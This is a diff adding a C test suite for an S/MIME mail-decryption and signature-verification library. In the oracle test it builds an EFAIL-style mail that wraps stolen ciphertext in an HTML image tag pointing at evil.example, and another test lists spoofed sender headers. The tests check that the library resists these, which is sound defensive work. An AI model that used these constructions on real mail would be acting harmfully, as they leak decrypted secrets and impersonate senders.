@@ -1,0 +1,485 @@
+/* SPDX-License-Identifier: GPL-3.0-or-later */
+/* Whole mails: how their layers come together, and what must not be taken for one. */
+#include <glib.h>
+
+#include <string.h>
+
+#include "sealing.h"
+
+#define FROM_ALICE "From: Alice <alice@example.org>\r\nSubject: outside\r\n" \
+                   "Message-ID: <one@example.org>\r\nMIME-Version: 1.0\r\n"
+
+static Sealing sealing;
+
+static void
+assert_opened (const Opened     *opened,
+               SignetSignature   signature,
+               SignetEncryption  encryption,
+               const char       *text)
+{
+  g_test_message ("%s", signet_verdict_get_sentence (opened->verdict));
+  g_assert_cmpstr (signet_signature_to_word (signet_verdict_get_signature (opened->verdict)), ==,
+                   signet_signature_to_word (signature));
+  g_assert_cmpstr (signet_encryption_to_word (signet_verdict_get_encryption (opened->verdict)), ==,
+                   signet_encryption_to_word (encryption));
+  g_assert_cmpstr (signet_message_get_text (opened->message), ==, text);
+}
+
+static void
+assert_verdict (const char       *entity,
+                SignetSignature   signature,
+                SignetEncryption  encryption,
+                const char       *text)
+{
+  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);
+
+  assert_opened (&opened, signature, encryption, text);
+}
+
+static void
+test_signed (void)
+{
+  g_autofree char *text = sealing_text ("Hello");
+  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
+  g_autofree char *opaque = sealing_opaque (&sealing, "alice", text);
+  g_autofree char *other = sealing_opaque (&sealing, "mallory", text);
+
+  assert_verdict (clear, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
+  assert_verdict (opaque, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
+  assert_verdict (other, SIGNET_SIGNATURE_MISMATCH, SIGNET_ENCRYPTION_NONE, "Hello\n");
+
+  strstr (clear, "Hello")[0] = 'J';
+  assert_verdict (clear, SIGNET_SIGNATURE_ALTERED, SIGNET_ENCRYPTION_NONE, "Jello\n");
+}
+
+static void
+test_encrypted (void)
+{
+  g_autofree char *text = sealing_text ("Secret");
+  g_autofree char *bare = sealing_encrypt (&sealing, "bob", text);
+  g_autofree char *gcm = sealing_cms (&sealing, "-encrypt -aes-256-gcm bob.crt", text);
+  g_autofree char *several = sealing_cms (&sealing, "-encrypt -aes128 stranger.crt bob.crt", text);
+  g_autofree char *untold = sealing_cms (&sealing, "-encrypt -aes256 -keyid bob.crt", text);
+
+  assert_verdict (bare, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_ENCRYPTED, "Secret\n");
+  assert_verdict (gcm, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_AUTHENTICATED, "Secret\n");
+  assert_verdict (several, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_ENCRYPTED, "Secret\n");
+  assert_verdict (untold, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_ENCRYPTED, "Secret\n");
+}
+
+static void
+test_nested (void)
+{
+  g_autofree char *text = sealing_text ("Hello");
+  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
+  g_autofree char *opaque = sealing_opaque (&sealing, "alice", text);
+  g_autofree char *clear_inside = sealing_encrypt (&sealing, "bob", clear);
+  g_autofree char *opaque_inside = sealing_encrypt (&sealing, "bob", opaque);
+  g_autofree char *triple = sealing_sign (&sealing, "alice", opaque_inside);
+  g_autofree char *relayed = sealing_sign (&sealing, "mallory", clear_inside);
+  g_autofree char *outside = sealing_encrypt (&sealing, "bob", text);
+  g_autofree char *signed_outside = sealing_sign (&sealing, "alice", outside);
+
+  assert_verdict (clear_inside, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
+  assert_verdict (opaque_inside, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
+  assert_verdict (triple, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
+  assert_verdict (relayed, SIGNET_SIGNATURE_MISMATCH, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
+  assert_verdict (signed_outside, SIGNET_SIGNATURE_PARTLY, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
+}
+
+static void
+test_closed (void)
+{
+  g_autofree char *text = sealing_text ("Secret");
+  g_autofree char *strange = sealing_encrypt (&sealing, "stranger", text);
+  g_autofree char *lost = sealing_encrypt (&sealing, "lost", text);
+  g_auto(Opened) not_ours = sealing_open (&sealing, FROM_ALICE, strange);
+  g_auto(Opened) no_key = sealing_open (&sealing, FROM_ALICE, lost);
+
+  assert_opened (&not_ours, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NOT_FOR_US, "");
+  g_assert_error (not_ours.error, SIGNET_SMIME_ERROR, SIGNET_SMIME_ERROR_NOT_FOR_US);
+  g_assert_cmpint (signet_message_get_body_kind (not_ours.message), ==, SIGNET_BODY_ENCRYPTED);
+  assert_opened (&no_key, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
+  g_assert_error (no_key.error, SIGNET_SMIME_ERROR, SIGNET_SMIME_ERROR_NO_KEY);
+  g_assert_cmpstr (signet_verdict_get_sentence (no_key.verdict), ==, no_key.error->message);
+}
+
+static void
+test_no_keyring (void)
+{
+  SignetUnsealerTools tools = { .verifier = sealing.verifier, .now = 1 };
+  g_autofree char *text = sealing_text ("Secret");
+  g_autofree char *bare = sealing_encrypt (&sealing, "bob", text);
+  g_auto(Opened) opened = sealing_open_with (&sealing, &tools, FROM_ALICE, bare);
+
+  assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NOT_FOR_US, "");
+
+  g_autoptr(GError) trouble = g_error_new_literal (SIGNET_SMIME_ERROR, SIGNET_SMIME_ERROR_ENGINE, "No.");
+  tools.trouble = trouble;
+  g_auto(Opened) troubled = sealing_open_with (&sealing, &tools, FROM_ALICE, bare);
+  assert_opened (&troubled, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
+  g_assert_cmpstr (signet_verdict_get_sentence (troubled.verdict), ==, "No.");
+}
+
+static void
+test_cancelled (void)
+{
+  SignetUnsealerTools tools = sealing_tools (&sealing);
+  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
+  g_autofree char *text = sealing_text ("Secret");
+  g_autofree char *bare = sealing_encrypt (&sealing, "bob", text);
+
+  g_cancellable_cancel (cancellable);
+  tools.cancellable = cancellable;
+  g_auto(Opened) opened = sealing_open_with (&sealing, &tools, FROM_ALICE, bare);
+  assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
+  g_assert_error (opened.error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+}
+
+static char *
+mix (const char *first,
+     const char *second,
+     const char *third)
+{
+  return g_strdup_printf ("Content-Type: multipart/mixed; boundary=MIX\r\n\r\n--MIX\r\n%s\r\n--MIX\r\n%s"
+                          "\r\n--MIX\r\n%s\r\n--MIX--\r\n", first, second, third);
+}
+
+static void
+test_partly (void)
+{
+  g_autofree char *text = sealing_text ("Signed");
+  g_autofree char *before = sealing_text ("Before");
+  g_autofree char *footer = sealing_text ("Footer");
+  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
+  g_autofree char *list = mix (before, clear, footer);
+  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, list);
+  GPtrArray *sections = signet_message_get_sections (opened.message);
+
+  assert_opened (&opened, SIGNET_SIGNATURE_PARTLY, SIGNET_ENCRYPTION_NONE,
+                 "Before\n\nSigned\n\nFooter\n");
+  g_assert_cmpuint (opened.frames->len, ==, 1);
+  g_assert_cmpint (signet_verdict_get_signature (opened.frames->pdata[0]), ==, SIGNET_SIGNATURE_VALID);
+  g_assert_cmpint (signet_section_get_frame (sections->pdata[0]), ==, SIGNET_SECTION_NO_FRAME);
+  g_assert_cmpint (signet_section_get_frame (sections->pdata[1]), ==, 0);
+  g_assert_cmpint (signet_section_get_frame (sections->pdata[2]), ==, SIGNET_SECTION_NO_FRAME);
+
+  /* Even where the whole is encrypted, or signed by somebody else around it. */
+  g_autofree char *sealed = sealing_encrypt (&sealing, "bob", list);
+  assert_verdict (sealed, SIGNET_SIGNATURE_PARTLY, SIGNET_ENCRYPTION_ENCRYPTED,
+                  "Before\n\nSigned\n\nFooter\n");
+}
+
+/* Ciphertext of somebody else's, put among other parts to be quoted in an answer, or between the halves
+ * of a document that sends it away. */
+static void
+test_oracles (void)
+{
+  g_autofree char *text = sealing_text ("Secret");
+  g_autofree char *stolen = sealing_encrypt (&sealing, "bob", text);
+  g_autofree char *before = g_strdup ("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/");
+  g_autofree char *after = g_strdup ("Content-Type: text/html\r\n\r\n\">");
+  g_autofree char *exfiltration = mix (before, stolen, after);
+  g_autofree char *hello = sealing_text ("Please answer");
+  g_autofree char *nothing = sealing_text ("");
+  g_autofree char *reply = mix (hello, nothing, stolen);
+  g_autofree char *alone = g_strdup_printf ("Content-Type: multipart/mixed; boundary=MIX\r\n\r\n--MIX\r\n"
+                                            "%s\r\n--MIX--\r\n", stolen);
+  g_autofree char *signed_mix = sealing_sign (&sealing, "alice", reply);
+  char *const mails[] = { exfiltration, reply, alone, signed_mix };
+
+  for (guint i = 0; i < G_N_ELEMENTS (mails); i++)
+    {
+      g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, mails[i]);
+      GPtrArray *sections = signet_message_get_sections (opened.message);
+      guint n_sealed = 0;
+
+      g_assert_null (strstr (signet_message_get_text (opened.message), "Secret"));
+      g_assert_nonnull (strstr (signet_verdict_get_sentence (opened.verdict), "stays closed"));
+      g_assert_cmpint (signet_verdict_get_encryption (opened.verdict), ==, SIGNET_ENCRYPTION_NONE);
+      for (guint j = 0; j < sections->len; j++)
+        n_sealed += signet_section_get_kind (sections->pdata[j]) == SIGNET_SECTION_SEALED;
+      g_assert_cmpuint (n_sealed, ==, 1);
+    }
+
+  /* The same when it comes encrypted. */
+  g_autofree char *wrapped = sealing_encrypt (&sealing, "bob", reply);
+  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, wrapped);
+  g_assert_null (strstr (signet_message_get_text (opened.message), "Secret"));
+}
+
+static void
+test_senders (void)
+{
+  static const char *const headers[] =
+  {
+    "From: alice@example.org\r\nFrom: mallory@evil.example\r\n",
+    "From: mallory@evil.example\r\nFrom: alice@example.org\r\n",
+    "From: alice@example.org, mallory@evil.example\r\n",
+    "From: Friends: alice@example.org;\r\n",
+    "From: alice@example.org <mallory@evil.example>\r\n",
+    "From: \"alice@example.org\"\r\n",
+    "From: mallory@evil.example (alice@example.org)\r\n",
+    "From: =?utf-8?q?alice=40example=2Eorg?= <mallory@evil.example>\r\n",
+    "From: ali\xE2\x80\x8B" "ce@example.org.evil.example\r\n",
+    "Sender: alice@example.org\r\nFrom: mallory@evil.example\r\n",
+    "Subject: nobody\r\n",
+  };
+  g_autofree char *text = sealing_text ("Hello");
+  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
+
+  for (guint i = 0; i < G_N_ELEMENTS (headers); i++)
+    {
+      g_auto(Opened) opened = sealing_open (&sealing, headers[i], clear);
+
+      assert_opened (&opened, SIGNET_SIGNATURE_MISMATCH, SIGNET_ENCRYPTION_NONE, "Hello\n");
+    }
+}
+
+static void
+test_broken (void)
+{
+  g_autofree char *text = sealing_text ("Hello");
+  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
+  char *signature = strstr (clear, "MII");
+
+  g_assert_nonnull (signature);
+  memset (signature, 'A', 8);
+  assert_verdict (clear, SIGNET_SIGNATURE_UNKNOWN, SIGNET_ENCRYPTION_NONE, "Hello\n");
+
+  assert_verdict ("Content-Type: multipart/signed; boundary=S; protocol=\"application/pgp-signature\"\r\n"
+                  "\r\n--S\r\n\r\nHello\r\n--S\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n"
+                  "--S--\r\n", SIGNET_SIGNATURE_UNKNOWN, SIGNET_ENCRYPTION_NONE, "Hello\n");
+  assert_verdict ("Content-Type: multipart/signed; boundary=S; protocol=\"application/pkcs7-signature\""
+                  "\r\n\r\n--S\r\n\r\nHello\r\n--S--\r\n", SIGNET_SIGNATURE_UNKNOWN,
+                  SIGNET_ENCRYPTION_NONE, "Hello\n");
+}
+
+/* A third part would be shown, and nobody signed it. */
+static void
+test_added_part (void)
+{
+  g_autofree char *text = sealing_text ("Hello");
+  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
+  char *last = g_strrstr (clear, "\n------");
+
+  g_assert_nonnull (last);
+  g_autofree char *boundary = g_strndup (last + 1, strcspn (last + 1, "\r\n") - 2);
+  g_autofree char *begin = g_strndup (clear, (gsize) (last + 1 - clear));
+  g_autofree char *added = g_strdup_printf ("%s%s\r\n\r\nAdded\r\n%s--\r\n", begin, boundary, boundary);
+
+  assert_verdict (added, SIGNET_SIGNATURE_UNKNOWN, SIGNET_ENCRYPTION_NONE, "Hello\n\nAdded\n");
+}
+
+static void
+test_certificates_only (void)
+{
+  g_assert_true (test_openssl_run (&sealing.openssl, "crl2pkcs7 -nocrl -certfile alice.crt -out p7"));
+  g_autoptr(GBytes) pem = test_openssl_read (&sealing.openssl, "p7");
+  g_auto(GStrv) lines = g_strsplit (g_bytes_get_data (pem, NULL), "-----", -1);
+  g_autofree char *entity
+    = g_strdup_printf ("Content-Type: application/pkcs7-mime; name=smime.p7c\r\n"
+                       "Content-Transfer-Encoding: base64\r\n\r\n%s", lines[2]);
+  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);
+
+  assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NONE, "");
+  g_assert_cmpstr (signet_verdict_get_sentence (opened.verdict), ==,
+                   "This brings certificates, and no message.");
+}
+
+/* One changed block of ciphertext is one block of noise in the text. */
+static void
+test_damaged (void)
+{
+  g_autofree char *html = g_strdup_printf ("Content-Type: text/html\r\n\r\n<p>%s</p>\r\n",
+                                           "A text that is some blocks long, so that one in the middle "
+                                           "can be changed without taking the padding along.");
+  g_autofree char *sealed = sealing_cms (&sealing, "-encrypt -aes256 -outform DER bob.crt", html);
+  g_autoptr(GBytes) bytes = test_openssl_read (&sealing.openssl, "out");
+  gsize length = g_bytes_get_size (bytes);
+  g_autofree guint8 *copy = g_memdup2 (g_bytes_get_data (bytes, NULL), length);
+
+  copy[length - 70] ^= 1;
+  g_autofree char *base64 = g_base64_encode (copy, length);
+  g_autofree char *entity
+    = g_strdup_printf ("Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
+                       "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n", base64);
+  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);
+  GPtrArray *sections = signet_message_get_sections (opened.message);
+
+  g_assert_cmpint (signet_verdict_get_encryption (opened.verdict), ==, SIGNET_ENCRYPTION_DAMAGED);
+  g_assert_true (signet_verdict_is_decrypted (opened.verdict));
+  for (guint i = 0; i < sections->len; i++)
+    g_assert_cmpint (signet_section_get_kind (sections->pdata[i]), ==, SIGNET_SECTION_TEXT);
+}
+
+static char *
+protect (const char *form,
+         const char *fields)
+{
+  return g_strdup_printf ("Content-Type: text/plain; charset=utf-8; %s\r\n%s\r\nHello\r\n", form, fields);
+}
+
+static void
+assert_header (const char      *entity,
+               const char      *from,
+               const char      *subject,
+               SignetSignature  signature)
+{
+  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);
+  SignetAddress *sender = signet_message_get_from (opened.message);
+
+  g_test_message ("%s", signet_verdict_get_sentence (opened.verdict));
+  g_assert_cmpstr (signet_address_get_address (sender), ==, from);
+  g_assert_cmpstr (signet_message_get_subject (opened.message), ==, subject);
+  g_assert_cmpint (signet_verdict_get_signature (opened.verdict), ==, signature);
+}
+
+static void
+test_protected_header (void)
+{
+  g_autofree char *inside = protect ("hp=cipher", "From: alice@example.org\r\nSubject: inside\r\n");
+  g_autofree char *clear = protect ("hp=clear", "From: alice@example.org\r\nSubject: inside\r\n");
+  g_autofree char *is_signed = sealing_sign (&sealing, "alice", clear);
+  g_autofree char *encrypted = sealing_encrypt (&sealing, "bob", inside);
+  g_autofree char *both = sealing_opaque (&sealing, "alice", inside);
+  g_autofree char *sealed = sealing_encrypt (&sealing, "bob", both);
+
+  assert_header (is_signed, "alice@example.org", "inside", SIGNET_SIGNATURE_VALID);
+  assert_header (encrypted, "alice@example.org", "inside", SIGNET_SIGNATURE_NONE);
+  assert_header (sealed, "alice@example.org", "inside", SIGNET_SIGNATURE_VALID);
+
+  /* Changed, it is no better than what stands outside. */
+  strstr (is_signed, "Hello")[0] = 'J';
+  assert_header (is_signed, "alice@example.org", "outside", SIGNET_SIGNATURE_ALTERED);
+}
+
+/* A sender inside is only shown if he signed, or stands outside too. */
+static void
+test_protected_sender (void)
+{
+  g_autofree char *mallory = protect ("hp=cipher", "From: mallory@evil.example\r\nSubject: inside\r\n");
+  g_autofree char *by_alice = sealing_sign (&sealing, "alice", mallory);
+  g_autofree char *by_mallory = sealing_sign (&sealing, "mallory", mallory);
+  g_autofree char *by_nobody = sealing_encrypt (&sealing, "bob", mallory);
+  g_autofree char *by_stranger = sealing_sign (&sealing, "stranger", mallory);
+  g_autofree char *around = sealing_sign (&sealing, "mallory", by_nobody);
+  g_auto(Opened) told = sealing_open (&sealing, FROM_ALICE, by_nobody);
+
+  assert_header (by_alice, "alice@example.org", "inside", SIGNET_SIGNATURE_VALID);
+  assert_header (by_mallory, "mallory@evil.example", "inside", SIGNET_SIGNATURE_VALID);
+  assert_header (by_nobody, "alice@example.org", "inside", SIGNET_SIGNATURE_NONE);
+  assert_header (by_stranger, "alice@example.org", "inside", SIGNET_SIGNATURE_UNKNOWN);
+  assert_header (around, "alice@example.org", "inside", SIGNET_SIGNATURE_MISMATCH);
+  g_assert_nonnull (strstr (signet_verdict_get_sentence (told.verdict),
+                            "Inside, mallory@evil.example is named as the sender."));
+}
+
+/* The header of a mail that is passed on stays with that; one that wraps itself is taken. */
+static void
+test_message_inside (void)
+{
+  static const char forwarded[] = "Content-Type: message/rfc822\r\n\r\nFrom: mallory@evil.example\r\n"
+                                  "Subject: inside\r\nMessage-ID: <one@example.org>\r\n\r\nHello\r\n";
+  static const char wrapped[] = "Content-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\n"
+                                "Subject: inside\r\nMessage-ID: <one@example.org>\r\n\r\nHello\r\n";
+  g_autofree char *passed_on = sealing_sign (&sealing, "alice", forwarded);
+  g_autofree char *whole = sealing_sign (&sealing, "alice", wrapped);
+
+  assert_header (passed_on, "alice@example.org", "outside", SIGNET_SIGNATURE_VALID);
+  assert_header (whole, "alice@example.org", "inside", SIGNET_SIGNATURE_VALID);
+}
+
+/* Layers without end. */
+static void
+test_deep (void)
+{
+  g_autofree char *entity = sealing_text ("Hello");
+
+  for (guint i = 0; i < 14; i++)
+    {
+      g_autofree char *outer = sealing_opaque (&sealing, "alice", entity);
+
+      g_free (g_steal_pointer (&entity));
+      entity = g_steal_pointer (&outer);
+    }
+  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);
+  g_assert_cmpint (signet_verdict_get_signature (opened.verdict), ==, SIGNET_SIGNATURE_UNKNOWN);
+}
+
+static gint64
+find_cb (const char *key,
+         gpointer    user_data)
+{
+  gint64 *time = g_hash_table_lookup (user_data, key);
+
+  return time != NULL ? *time : 0;
+}
+
+static void
+note_cb (const char *key,
+         gint64      time,
+         gpointer    user_data)
+{
+  g_hash_table_insert (user_data, g_strdup (key), g_memdup2 (&time, sizeof time));
+}
+
+/* Our own record counts, and not what the signer says of the time. */
+static void
+test_memory (void)
+{
+  g_autoptr(GHashTable) times = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
+  SignetUnsealerTools tools = sealing_tools (&sealing);
+  const gint64 later = tools.now + 31 * 24 * 60 * 60;
+  g_autofree char *text = sealing_text ("Hello");
+  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
+
+  tools.memory = (SignetUnsealerMemory) { find_cb, note_cb, times };
+  tools.now = later;
+  g_auto(Opened) unseen = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
+  assert_opened (&unseen, SIGNET_SIGNATURE_EXPIRED, SIGNET_ENCRYPTION_NONE, "Hello\n");
+  g_assert_cmpuint (g_hash_table_size (times), ==, 0);
+
+  tools.now -= 31 * 24 * 60 * 60;
+  g_auto(Opened) first = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
+  assert_opened (&first, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
+  g_assert_cmpuint (g_hash_table_size (times), ==, 1);
+
+  tools.now = later;
+  g_auto(Opened) again = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
+  assert_opened (&again, SIGNET_SIGNATURE_WAS_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
+}
+
+int
+main (int    argc,
+      char **argv)
+{
+  g_test_init (&argc, &argv, NULL);
+
+  if (!test_openssl_is_there ())
+    return 77;
+  sealing_set_up (&sealing);
+
+  g_test_add_func ("/unsealer/signed", test_signed);
+  g_test_add_func ("/unsealer/encrypted", test_encrypted);
+  g_test_add_func ("/unsealer/nested", test_nested);
+  g_test_add_func ("/unsealer/closed", test_closed);
+  g_test_add_func ("/unsealer/no-keyring", test_no_keyring);
+  g_test_add_func ("/unsealer/cancelled", test_cancelled);
+  g_test_add_func ("/unsealer/partly", test_partly);
+  g_test_add_func ("/unsealer/oracles", test_oracles);
+  g_test_add_func ("/unsealer/senders", test_senders);
+  g_test_add_func ("/unsealer/broken", test_broken);
+  g_test_add_func ("/unsealer/added-part", test_added_part);
+  g_test_add_func ("/unsealer/certificates-only", test_certificates_only);
+  g_test_add_func ("/unsealer/damaged", test_damaged);
+  g_test_add_func ("/unsealer/protected-header", test_protected_header);
+  g_test_add_func ("/unsealer/protected-sender", test_protected_sender);
+  g_test_add_func ("/unsealer/message-inside", test_message_inside);
+  g_test_add_func ("/unsealer/deep", test_deep);
+  g_test_add_func ("/unsealer/memory", test_memory);
+
+  int status = g_test_run ();
+  sealing_tear_down (&sealing);
+  return status;
+}
